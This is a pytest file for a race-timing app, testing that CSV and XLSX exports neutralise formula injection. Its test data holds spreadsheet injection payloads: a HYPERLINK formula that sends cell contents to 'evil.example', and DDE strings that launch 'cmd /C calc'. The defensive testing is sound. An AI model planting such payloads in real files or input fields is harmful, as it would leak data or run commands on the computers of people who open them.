"""Finding 9: exported CSV and XLSX cells never start a formula (CSV / formula injection).

Entrants' names, clubs and teams come from strangers (online entry forms, organisers'
files). A club called ``=HYPERLINK(...)`` must reach Excel or LibreOffice as text, in
every export: the results API's CSV, the CLI's, and the export jobs' CSV and XLSX.
"""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from edge.services.exports import ExportRequest, ExportService
from edge.store.database import Database
from tests.browser import EXAMPLE_EVENT, EXAMPLE_SLUG
from tests.exportbox import PASSINGS

pytestmark = pytest.mark.integration

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
TAG = "E2801160600002000000A0"
# bib;last name;first name;sex;birth;club;team;race;wave;tag (the example's columns)
ENTRANTS = [
    "Dossard;Nom;Prénom;Sexe;Date de naissance;Club;Équipe;Course;Vague;Puce",
    f"1;{FORMULAS[0]};{FORMULAS[1]};F;14/03/1990;{FORMULAS[3]};{FORMULAS[2]};10K;W1;{TAG}01",
    f'2;Dupont;"{FORMULAS[4]}";H;1985-07-02;"{FORMULAS[5]}";{FORMULAS[2]};10K;W1;{TAG}02',
    f'3;"{FORMULAS[6]}";Zoé;F;02/11/2003;-;{FORMULAS[2]};10K;W2;{TAG}03',
]


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("box")
    (folder / "entrants.csv").write_text("\n".join(ENTRANTS) + "\n", encoding="utf-8")
    (folder / "passings.csv").write_text("\n".join(PASSINGS) + "\n")
    cli(folder, "db", "upgrade")
    cli(folder, "event", "load", str(EXAMPLE_EVENT))
    cli(folder, "entrants", "import", str(folder / "entrants.csv"), "--event", EXAMPLE_SLUG)
    cli(folder, "passings", "import", str(folder / "passings.csv"), "--event", EXAMPLE_SLUG)
    return folder


def cli(folder: Path, *args: str) -> str:
    command = [sys.executable, "-m", "edge.cli", "--db", str(folder / "edge.db"), *args]
    done = subprocess.run(command, capture_output=True, text=True, cwd=folder, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def assert_inert(cells: list[object], where: str) -> None:
    """No text cell starts (after spaces) with = + - @ tab or CR; numbers stay numbers."""
    texts = [c for c in cells if isinstance(c, str)]
    for cell in texts:
        first = cell.lstrip(" ")[:1]
        assert first not in set("=+-@\t\r") or is_number(cell), f"{where}: {cell!r}"
    assert any(c.lstrip(" ").startswith("'") for c in texts), f"{where}: no malicious cell seen"


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def csv_cells(text: str) -> list[object]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def produce(box: Path, kind: str, fmt: str, language: str | None = None) -> Path:
    async def made() -> Path:
        database = Database(box / "edge.db")
        try:
            service = ExportService(database, box / "exports")
            request = ExportRequest(EXAMPLE_SLUG, "10K", kind, fmt, language)

            async def progress(_percent: int, _what: str) -> None:
                return None

            return service.folder / (await service.produce(request, progress)).name
        finally:
            await database.close()

    return asyncio.run(made())


def test_the_cli_csv_is_inert(box: Path) -> None:
    for extra in ([], ["--teams"]):
        args = ["results", "export", "--event", EXAMPLE_SLUG, "--race", "10K", *extra]
        assert_inert(csv_cells(cli(box, *args)), " ".join(args))


@pytest.mark.parametrize("kind", ["scratch", "category", "teams"])
@pytest.mark.parametrize("language", [None, "fr"])
def test_export_csv_files_are_inert(box: Path, kind: str, language: str | None) -> None:
    path = produce(box, kind, "csv", language)
    assert_inert(csv_cells(path.read_text(encoding="utf-8")), path.name)


@pytest.mark.parametrize("kind", ["scratch", "category", "teams"])
def test_export_workbooks_hold_text_not_formulas(box: Path, kind: str) -> None:
    book = load_workbook(produce(box, kind, "xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
    assert_inert([c.value for c in cells], kind)
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert numbers, "ranks stay numbers"


def test_numbers_stay_numbers_and_text_keeps_its_letters() -> None:
    from edge.timing.export import spreadsheet_cell

    assert spreadsheet_cell(-12) == -12
    assert spreadsheet_cell(-1.5) == -1.5
    assert spreadsheet_cell("-12") == "-12"
    assert spreadsheet_cell("+3,5") == "+3,5"
    assert spreadsheet_cell("-1e3") == "-1e3"
    assert spreadsheet_cell("Jean-Pierre") == "Jean-Pierre"
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("-1+1") == "'-1+1"
    assert spreadsheet_cell("\t-1") == "'\t-1"


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n 0123456789.,eEaZ:'é"), max_size=6))
def test_the_fast_path_keeps_the_rule(value: str) -> None:
    """Deciding on the first character alone gives the full rule's answer for any text."""
    from edge.timing.export import _NUMBER, FORMULA_STARTS, spreadsheet_cell

    first = value.lstrip(" ")[:1]
    neutralised = first in FORMULA_STARTS and not _NUMBER.fullmatch(value)
    assert spreadsheet_cell(value) == ("'" + value if neutralised else value)


@pytest.mark.parametrize("table", ["results", "teams"])
def test_the_results_api_csv_is_inert_and_its_json_unchanged(box: Path, table: str) -> None:
    from litestar.testing import TestClient

    from edge.app import create_app
    from edge.settings import Settings

    (box / "boot").mkdir(exist_ok=True)
    settings = Settings(db=box / "edge.db", boot_folder=box / "boot")
    url = f"/api/v1/events/{EXAMPLE_SLUG}/races/10K/{table}"
    with TestClient(create_app(settings)) as client:
        answer = client.get(url, params={"format": "csv"})
        assert answer.status_code == 200, answer.text
        assert_inert(csv_cells(answer.text), url)
        data = client.get(url).json()  # JSON is data for programs: the text as typed
    assert any(FORMULAS[2] in str(row.values()) for row in data)
